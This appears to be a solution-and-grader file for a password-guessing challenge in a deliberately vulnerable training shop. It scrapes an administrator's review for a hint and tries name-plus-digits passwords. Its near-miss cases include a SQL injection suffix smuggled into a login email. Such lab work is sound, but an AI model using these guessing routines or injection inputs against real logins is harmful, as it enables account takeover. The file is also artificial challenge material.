import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const signIn = (attacker: Attacker, email: string, password: string) =>
  attacker.post('/rest/user/login', { email, password })
const asAdmin = (attacker: Attacker, password: string) => signIn(attacker, `admin@${attacker.domain}`, password)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // "The name on my badge, and the first three numbers that children learn."
    const reviews: { author: string; message: string }[] = (await attacker.get('/rest/products/2/reviews')).json().data
    const review = reviews.find(({ message }) => message.includes('badge'))
    if (!review) throw new Error("The administrator's review does not mention a badge.")
    const name = review.author.split('@')[0]
    for (const digits of ['', '1', '12', '123']) await signIn(attacker, review.author, `${name}${digits}`)
  },
  nearMisses: {
    'the word without its digits': (attacker) => asAdmin(attacker, 'admin'),
    'the word with a capital': (attacker) => asAdmin(attacker, 'Admin123'),
    'digits too many': (attacker) => asAdmin(attacker, 'admin1234'),
    'the same password at another account': (attacker) => signIn(attacker, `jim@${attacker.domain}`, 'admin123'),
    'the right password sent along with an injection, which never looks at it': (attacker) =>
      signIn(attacker, `admin@${attacker.domain}'--`, 'admin123'),
    'an account of one’s own with that password': async (attacker) => {
      const [email, password] = ['somebody@customer.test', 'admin123']
      await attacker.post('/api/Users', { email, password, passwordRepeat: password })
      await signIn(attacker, email, password)
    },
  },
})
